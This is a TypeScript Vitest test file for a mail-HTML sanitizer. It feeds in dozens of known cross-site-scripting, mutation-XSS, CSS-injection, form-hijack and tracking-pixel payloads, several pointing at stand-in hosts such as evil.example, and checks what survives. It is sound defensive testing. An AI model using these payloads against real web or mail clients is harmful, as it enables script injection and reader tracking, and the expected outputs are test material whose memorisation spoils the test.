import { describe, expect, it } from 'vitest';
import { sanitizeMailHtml, type RemoteContent } from './sanitize-mail-html.js';

const cidUrl = (contentId: string): string | null => (contentId === 'logo@x' ? '/attachments/0' : null);
const sanitize = (html: string, remoteContent: RemoteContent = 'block'): string =>
  sanitizeMailHtml(html, { remoteContent, cidUrl }).html;

/** Tricks known from the OWASP cheat sheets, DOMPurify's and mail clients' past: what is left of each, exactly. */
const scripts: readonly (readonly [trick: string, html: string, left: string])[] = [
  ['script', '<script>alert(1)</script>a', 'a'],
  ['script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>a', 'a'],
  ['script inside a tag name', '<scr<script>ipt>alert(1)</script>a', 'ipt&gt;alert(1)a'],
  ['script with a slash', '<script/x>alert(1)</script>a', 'a'],
  ['script never closed', 'a<script>alert(1)', 'a'],
  ['null byte inside a name', '<scr\0ipt>alert(1)</scr\0ipt>a', 'a'],
  ['event handler', '<p onclick="alert(1)">a</p>', '<p>a</p>'],
  ['event handler behind a slash', '<img/onerror=alert(1)/src=x>', '<img />'],
  ['event handler in mixed case', '<b oNmOuSeOvEr=alert(1)>a</b>', '<b>a</b>'],
  ['event handler behind a line end', '<b\nonclick\n=\nalert(1)>a</b>', '<b>a</b>'],
  ['javascript link', '<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
  ['javascript by entities', '<a href="&#106;&#x61;vascript&colon;alert(1)">a</a>', '<a>a</a>'],
  ['javascript with a tab inside', '<a href="java\tscript:alert(1)">a</a>', '<a>a</a>'],
  ['javascript with an entity line end', '<a href="java&#10;script:alert(1)">a</a>', '<a>a</a>'],
  ['javascript behind control letters', '<a href="\x01\x02 javascript:alert(1)">a</a>', '<a>a</a>'],
  ['javascript in full-width letters', '<a href="ｊavascript:alert(1)">a</a>', '<a>a</a>'],
  ['javascript behind a null byte', '<a href="java\0script:alert(1)">a</a>', '<a>a</a>'],
  ['vbscript', '<a href="VBScript:msgbox(1)">a</a>', '<a>a</a>'],
  ['data page', '<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a>a</a>'],
  ['blob and file', '<a href="blob:x">a</a><a href="file:///etc/passwd">b</a>', '<a>a</a><a>b</a>'],
  ['view-source', '<a href="view-source:https://x.example">a</a>', '<a>a</a>'],
  ['javascript image', '<img src="javascript:alert(1)">', '<img />'],
  ['svg data image', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img />'],
  ['svg', '<svg><script>alert(1)</script></svg>a', 'a'],
  ['svg with a handler', '<svg/onload=alert(1)>a', ''],
  [
    'svg animation of a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>b',
    'b',
  ],
  ['mathml', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>a', 'a'],
  [
    'mutation by mathml',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '',
  ],
  [
    'mutation by a table',
    '<table><a title="</table><img src=1 onerror=alert(1)>">b</a>',
    '<table><a title="&lt;/table&gt;&lt;img src=1 onerror=alert(1)&gt;">b</a></table>',
  ],
  [
    'mutation by noscript',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;"></p>',
  ],
  ['mutation by a backtick', '<img alt="`onerror=alert(1)">', '<img alt="`onerror=alert(1)" />'],
  [
    'mutation by listing',
    '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
    '&lt;img src=1 onerror=alert(1)&gt;',
  ],
  ['mutation by xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<img />"&gt;'],
  ['textarea', '<textarea><img src=x onerror=alert(1)></textarea>a', 'a'],
  ['title', '<title><img src=x onerror=alert(1)></title>a', 'a'],
  ['template', '<template><script>alert(1)</script></template>a', 'a'],
  ['comment', 'a<!-- <script>alert(1)</script> -->b', 'ab'],
  ['comment closed oddly', '<!--> <img src=x onerror=alert(1)> -->', ' <img /> --&gt;'],
  ['conditional comment', '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->a', 'a'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>a', 'a'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?>a', 'a'],
  ['DOM clobbering', '<img name=cookie><p id=body class=modal>a</p>', '<img /><p>a</p>'],
  ['custom element', '<x-app onfocus=alert(1) autofocus tabindex=1>a</x-app>', 'a'],
  ['details that opens itself', '<details open ontoggle=alert(1)>a</details>', 'a'],
  [
    'attribute that ends a tag',
    '<a title="\'><script>alert(1)</script>">a</a>',
    '<a title="\'&gt;&lt;script&gt;alert(1)&lt;/script&gt;">a</a>',
  ],
  ['prototype names', '<p __proto__=x constructor=y>a</p>', '<p>a</p>'],
];

const documents: typeof scripts = [
  ['refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">a', 'a'],
  ['base', '<base href="https://evil.example/"><a href="x">a</a>', '<a>a</a>'],
  ['link to a style sheet', '<link rel=stylesheet href="https://evil.example/x.css">a', 'a'],
  ['prefetch', '<link rel="dns-prefetch prefetch" href="https://evil.example">a', 'a'],
  ['form', '<form action="https://evil.example"><input name=p type=password><button>OK</button></form>', 'OK'],
  [
    'form outside its form',
    '<input form=f formaction="https://evil.example"><select><option>a</option></select>b',
    'b',
  ],
  ['isindex', '<isindex action="javascript:alert(1)" type=image>a', 'a'],
  ['iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>a', 'a'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"></frameset>a', 'a'],
  ['object and embed', '<object data="x.swf"><embed src="x.swf"></object>a', 'a'],
  ['applet', '<applet code=x></applet>a', 'a'],
  ['audio and video', '<video poster="https://t.example/p.gif"><source src="https://t.example/v"></video>a', 'a'],
  ['dialog that covers', '<dialog open>a</dialog>', 'a'],
  [
    'relative link into the application',
    '<a href="/settings/delete">a</a><a href="?x=1">b</a><a href="#c">c</a>',
    '<a>a</a><a>b</a><a>c</a>',
  ],
  [
    'ping of a link',
    '<a href="https://x.example/" ping="https://t.example">a</a>',
    '<a href="https://x.example/" target="_blank" rel="noopener noreferrer nofollow">a</a>',
  ],
  [
    'target and opener',
    '<a href="https://x.example/" target=_top rel=opener>a</a>',
    '<a href="https://x.example/" target="_blank" rel="noopener noreferrer nofollow">a</a>',
  ],
  [
    'mailto',
    '<a href="mailto:a@x.example?subject=b">a</a>',
    '<a href="mailto:a@x.example?subject=b" target="_blank" rel="noopener noreferrer nofollow">a</a>',
  ],
  ['mailto that attaches a file', '<a href="mailto:a@x.example?attach=/etc/passwd">a</a>', '<a>a</a>'],
  ['stray closing tags', '</div></body></html></table>a</p>', 'a<p></p>'],
  ['tags never closed', '<table><tr><td><b>a', '<table><tr><td><b>a</b></td></tr></table>'],
  ['image map', '<img usemap="#m"><map name=m><area href="javascript:alert(1)"></map>', '<img />'],
  [
    'styled body',
    '<html><head><title>t</title></head><body bgcolor="#fff" onload=alert(1)>a</body></html>',
    '<div bgcolor="#fff">a</div>',
  ],
];

const styles: readonly (readonly [trick: string, style: string, left: string])[] = [
  ['plain', 'color: red; font-size: 12px', 'color: red; font-size: 12px'],
  ['upper case', 'COLOR:RED', 'color: RED'],
  ['fixed position', 'position: fixed; top: 0; left: 0; color: red', 'color: red'],
  ['absolute and sticky position', 'position: absolute; position: sticky; z-index: 99999', ''],
  ['transform', 'transform: translate(-500px); color: red', 'color: red'],
  ['negative margin', 'margin: -500px 0 0; margin-left: 5px', 'margin-left: 5px'],
  ['negative margin in calc', 'margin: calc(0px - 500px)', ''],
  ['huge', 'width: 99999999px; padding: 1e9px', ''],
  ['viewport cover', 'outline: 9999px solid red; box-shadow: 0 0 0 9999px red', ''],
  ['expression', 'width: expression(alert(1))', ''],
  ['expression in a comment', 'width: exp/**/ression(alert(1))', ''],
  ['expression by escapes', 'width: \\65xpression(alert(1))', ''],
  ['property by escapes', 'po\\73ition: fixed', ''],
  ['full-width expression', 'width: ｅｘｐｒｅｓｓｉｏｎ(alert(1))', ''],
  ['binding', '-moz-binding: url(https://evil.example/x.xml#x)', ''],
  ['behavior', 'behavior: url(x.htc)', ''],
  ['javascript url', 'background: url(javascript:alert(1))', ''],
  ['import', '@import url(https://evil.example/x.css); color: red', 'color: red'],
  ['content', 'content: "phish"', ''],
  ['variable', '--x: url(https://t.example); background: var(--x)', ''],
  ['animation', 'animation: x 1s; transition: all 1s', ''],
  ['cursor', 'cursor: url(https://t.example/x.cur), auto', ''],
  ['list image', 'list-style: url(https://t.example/x.gif)', ''],
  [
    'font with quotes',
    'font-family: \'ＭＳ Ｐゴシック\', "Yu Gothic", sans-serif',
    'font-family: \'ＭＳ Ｐゴシック\', "Yu Gothic", sans-serif',
  ],
  ['font that closes', 'font-family: "a</style><script>alert(1)</script>"', ''],
  ['semicolon in quotes', 'font-family: "a;position:fixed"; color: red', 'font-family: "a;position:fixed"; color: red'],
  ['quote never closed', 'color: red; font-family: "a; position: fixed', 'color: red'],
  ['comment never closed', 'color: red; /* margin: 0', 'color: red'],
  [
    'rgb',
    'color: rgb(1, 2, 3); background-color: rgba(0,0,0,.5)',
    'color: rgb(1, 2, 3); background-color: rgba(0,0,0,.5)',
  ],
  ['Office', 'mso-style-name: x; color: windowtext', 'color: windowtext'],
];

/** What tells somebody that a mail is read. Each loads once when allowed, never when blocked, and is counted. */
const trackers: readonly (readonly [trick: string, html: string])[] = [
  ['image', '<img src="https://t.example/x.gif">'],
  ['image without scheme', '<img src="//t.example/x.gif">'],
  ['image in mixed case', '<IMG SRC="HTTPS://T.EXAMPLE/x.gif">'],
  ['image by http', '<img src="http://t.example/x.gif">'],
  ['image with white space', '<img src=" \n https://t.example/x.gif">'],
  ['background attribute', '<table background="https://t.example/x.gif"></table>'],
  ['background style', '<p style="background:url(https://t.example/x.gif)">'],
  ['background style in quotes', '<p style="background-image: url( \'https://t.example/x.gif\' )">'],
  ['background in mixed case', '<p style="BACKGROUND: URL(//t.example/x.gif) no-repeat">'],
  ['body background', '<body background="https://t.example/x.gif">'],
];

/** Loads nothing, whatever the reader has asked for. */
const neverLoaded: readonly (readonly [trick: string, html: string])[] = [
  ['srcset', '<img srcset="https://t.example/x.gif 1x, https://t.example/y.gif 2x">'],
  ['picture source', '<picture><source srcset="https://t.example/x.gif"></picture>'],
  ['lowsrc and dynsrc', '<img lowsrc="https://t.example/x.gif" dynsrc="https://t.example/y">'],
  ['input image', '<input type=image src="https://t.example/x.gif">'],
  ['style element', '<style>@import "https://t.example/x.css"; p { background: url(https://t.example/x.gif) }</style>'],
  ['image-set', '<p style="background: image-set(\'https://t.example/x.gif\' 1x)">'],
  ['url by escapes', '<p style="background: u\\72l(https://t.example/x.gif)">'],
  ['url in a comment', '<p style="background: ur/**/l(https://t.example/x.gif)">'],
  ['font face', '<font style="src: url(https://t.example/x.ttf)">a</font>'],
  ['background sound', '<bgsound src="https://t.example/x.mid">'],
  ['svg image', '<svg><image href="https://t.example/x.gif"/><use href="https://t.example/x.svg#a"/></svg>'],
  ['video poster', '<video poster="https://t.example/x.gif">'],
  ['track and embed', '<track src="https://t.example/x"><embed src="https://t.example/x">'],
  ['manifest', '<html manifest="https://t.example/x">'],
  ['quotation source', '<blockquote cite="https://t.example/x">a</blockquote>'],
  ['profile', '<head profile="https://t.example/x"></head>'],
];

describe('what runs', () => {
  it.each(scripts)('%s', (_trick, html, left) => {
    expect(sanitize(html)).toBe(left);
    expect(sanitize(html, 'allow')).toBe(left);
  });
});

describe('what loads, submits or leaves', () => {
  it.each(documents)('%s', (_trick, html, left) => {
    expect(sanitize(html)).toBe(left);
  });
});

describe('styles', () => {
  it.each(styles)('%s', (_trick, style, left) => {
    const escaped = left.replaceAll('"', '&quot;');
    expect(sanitize(`<p style="${style.replaceAll('"', '&quot;')}">a</p>`)).toBe(
      left === '' ? '<p>a</p>' : `<p style="${escaped}">a</p>`,
    );
  });
});

describe('remote content', () => {
  it.each(trackers)('%s is blocked and counted', (_trick, html) => {
    const blocked = sanitizeMailHtml(html, { remoteContent: 'block', cidUrl });
    expect(blocked.html).not.toMatch(/t\.example/i);
    expect(blocked.blockedRemote).toBe(1);
  });

  it.each(trackers)('%s is loaded when the reader asks for it', (_trick, html) => {
    const allowed = sanitizeMailHtml(html, { remoteContent: 'allow', cidUrl });
    expect(allowed.html).toMatch(/https?:\/\/t\.example\/x\.gif/);
    expect(allowed.blockedRemote).toBe(0);
  });

  it.each(neverLoaded)('%s never loads', (_trick, html) => {
    expect(sanitize(html)).not.toContain('t.example');
    expect(sanitize(html, 'allow')).not.toContain('t.example');
  });

  it('keeps what surrounds a blocked background', () => {
    expect(sanitize('<td style="background: #fff url(https://t.example/x.gif) no-repeat">a</td>')).toBe(
      '<td style="background: #fff  no-repeat">a</td>',
    );
  });
});

describe('images inside the mail', () => {
  it('are served by the application', () => {
    expect(sanitize('<img src="cid:logo@x"><img src="CID:logo%40x">')).toBe(
      '<img src="/attachments/0" /><img src="/attachments/0" />',
    );
    expect(sanitize('<td style="background:url(cid:logo@x)">a</td>')).toBe(
      '<td style="background: url(&quot;/attachments/0&quot;)">a</td>',
    );
  });

  it('are left out when the mail has none of that name', () => {
    expect(sanitizeMailHtml('<img src="cid:none">', { remoteContent: 'block', cidUrl })).toEqual({
      html: '<img />',
      blockedRemote: 0,
    });
  });

  it('may be written into the HTML', () => {
    expect(sanitize('<img src="data:image/png;base64,iVBORw0KGgo=">')).toBe(
      '<img src="data:image/png;base64,iVBORw0KGgo=" />',
    );
  });
});

describe('mail as people send it', () => {
  it('keeps its look', () => {
    const html =
      '<table width="600" cellpadding="0" border="0" align="center"><tr><td bgcolor="#eeeeee" colspan="2" style="padding: 10px">' +
      '<font color="red" size="2" face="ＭＳ ゴシック">面接の<b>日程</b></font><br /><a href="https://example.jp/?a=1&amp;b=2">詳細</a></td></tr></table>';
    expect(sanitize(html)).toBe(html.replace('b=2"', 'b=2" target="_blank" rel="noopener noreferrer nofollow"'));
  });

  it('keeps ruby and lists', () => {
    const html = '<p><ruby>面接<rp>(</rp><rt>めんせつ</rt><rp>)</rp></ruby></p><ol start="2"><li>一</li></ol>';
    expect(sanitize(html)).toBe(html);
  });

  it('is cut off at two hundred levels', () => {
    const safe = sanitize('<div>'.repeat(100_000));
    expect(safe.split('<div>').length - 1).toBeLessThanOrEqual(200);
    expect(safe.split('</div>').length).toBe(safe.split('<div>').length);
  });

  it('comes out well-formed', () => {
    expect(sanitize('a\ud800b\0c')).toBe('a\ufffdbc');
  });
});
